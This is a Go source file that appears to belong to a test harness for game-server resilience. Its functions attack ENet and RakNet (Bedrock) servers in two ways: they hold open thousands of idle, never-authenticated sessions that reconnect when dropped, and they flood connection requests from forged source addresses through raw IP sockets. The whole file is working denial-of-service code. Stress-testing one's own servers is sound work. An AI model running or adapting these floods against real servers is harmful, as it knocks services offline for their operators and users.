//go:build linux

package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/truestep-io/truestep/proto/enet"
	"github.com/truestep-io/truestep/proto/raknet"
)

// idleENet opens connections, acknowledges everything and never logs in. A connection that the server ends is opened
// again a second later.
func idleENet(ctx context.Context, a *assault) error {
	const perAddress = 50
	server := netip.MustParseAddrPort(rcceAddr)
	for i := range 106 * a.strength {
		sock, err := listenUDP(attackerAddr(i))
		if err != nil {
			return err
		}
		a.done.Go(func() {
			defer sock.Close()
			h := enet.NewHost(enet.Config{SessionSeed: randomSeed(), RefuseConnect: true, MaxPeers: perAddress})
			begin := time.Now()
			now := func() uint32 { return uint32(time.Since(begin).Milliseconds()) }
			open := func(e enet.Event) {
				if e.Kind == enet.Connected {
					a.count.Add(1)
				}
			}
			next := time.Now()
			for buf := make([]byte, 4096); ctx.Err() == nil; {
				if time.Now().After(next) {
					for h.Peers() < perAddress {
						if _, err := h.Connect(now(), server, 254); err != nil {
							break
						}
					}
					next = time.Now().Add(time.Second)
				}
				h.Tick(now(), open)
				h.Flush(now(), func(to netip.AddrPort, b []byte) { _, _ = sock.WriteToUDPAddrPort(b, to) })
				_ = sock.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
				if n, from, err := sock.ReadFromUDPAddrPort(buf); err == nil {
					h.Receive(now(), from, buf[:n], open)
				}
			}
		})
	}
	wait(ctx, 2*time.Second)
	close(a.started)
	<-ctx.Done()
	a.done.Wait()
	return nil
}

// idleRakNet opens RakNet sessions, answers everything and never logs in. A session that the server ends is opened again a
// second later.
func idleRakNet(ctx context.Context, a *assault) error {
	server := netip.MustParseAddrPort(bedrockAddr)
	begin := time.Now()
	now := func() int64 { return time.Since(begin).Milliseconds() }
	for i := range min(5300*a.strength, maxSockets) {
		sock, err := listenUDP(attackerAddr(i / 50))
		if err != nil {
			return err
		}
		a.done.Go(func() {
			defer sock.Close()
			c := raknet.NewClient(raknet.ClientConfig{GUID: randomSeed()})
			buf, emit := make([]byte, 2048), func(to netip.AddrPort, b []byte) { _, _ = sock.WriteToUDPAddrPort(b, to) }
			open, next := false, time.Now()
			handle := func(e raknet.Event) {
				switch e.Kind {
				case raknet.Connected:
					a.count.Add(1)
				case raknet.Disconnected:
					open, next = false, time.Now().Add(time.Second)
				}
			}
			wait(ctx, time.Duration(i)*time.Millisecond/2)
			for ctx.Err() == nil {
				if !open && time.Now().After(next) {
					c.Connect(now(), server)
					open = true
				}
				c.Tick(now(), handle)
				c.Flush(now(), emit)
				_ = sock.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
				if n, from, err := sock.ReadFromUDPAddrPort(buf); err == nil {
					c.Receive(now(), from, buf[:n], handle)
					c.Flush(now(), emit)
				}
			}
		})
	}
	wait(ctx, 3*time.Second)
	close(a.started)
	<-ctx.Done()
	a.done.Wait()
	return nil
}

func listenUDP(addr string) (*net.UDPConn, error) {
	return net.ListenUDP("udp4", &net.UDPAddr{IP: net.ParseIP(addr)})
}

func randomSeed() uint64 {
	var b [8]byte
	_, _ = rand.Read(b[:]) // Read never returns an error
	return binary.LittleEndian.Uint64(b[:])
}

// forgedConnects sends ENet CONNECTs with forged sender addresses.
func forgedConnects(ctx context.Context, a *assault) error {
	h := enet.NewHost(enet.Config{SessionSeed: 1, RefuseConnect: true})
	if _, err := h.Connect(0, netip.MustParseAddrPort(rcceAddr), 254); err != nil {
		return err
	}
	var request []byte
	h.Flush(0, func(_ netip.AddrPort, b []byte) { request = append(request, b...) })
	return a.forge(ctx, 25000, request)
}

// forgedRequests sends the first request of RakNet connections with forged sender addresses.
func forgedRequests(ctx context.Context, a *assault) error {
	c := raknet.NewClient(raknet.ClientConfig{GUID: 1, MTU: 576})
	c.Connect(0, netip.MustParseAddrPort(bedrockAddr))
	c.Tick(0, func(raknet.Event) {})
	var request []byte
	c.Flush(0, func(_ netip.AddrPort, b []byte) { request = append(request, b...) })
	return a.forge(ctx, 19132, request)
}

// forge sends 10,000 datagrams a second to a port of the server, each from another address and port.
func (a *assault) forge(ctx context.Context, port uint16, payload []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	const ipHeader, udpHeader = 20, 8
	b := make([]byte, ipHeader+udpHeader+len(payload))
	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_UDP // version and length, time to live, protocol; the kernel fills in the rest
	server := netip.MustParseAddr(serverAddr).As4()
	copy(b[16:], server[:])
	binary.BigEndian.PutUint16(b[ipHeader+2:], port)
	binary.BigEndian.PutUint16(b[ipHeader+4:], uint16(udpHeader+len(payload))) // the zero checksum means that there is none
	copy(b[ipHeader+udpHeader:], payload)
	close(a.started)
	begin := time.Now()
	for sent := uint32(0); ctx.Err() == nil; {
		for due := uint32(time.Since(begin).Seconds() * float64(10_000*a.strength)); sent < due && ctx.Err() == nil; sent++ {
			from := sent * 2654435761 // spreads the sender addresses over 10.100.0.0/14 and all ports
			b[12], b[13], b[14], b[15] = 10, 100+byte(from>>16&3), byte(from>>8), byte(from)
			binary.BigEndian.PutUint16(b[ipHeader:], 1024+uint16(from>>18)&0x7fff)
			if err := unix.Sendto(fd, b, 0, &unix.SockaddrInet4{Addr: server}); err != nil && err != unix.ENOBUFS {
				return fmt.Errorf("raw socket: %w", err)
			}
			a.count.Add(1)
		}
		time.Sleep(time.Millisecond)
	}
	return nil
}
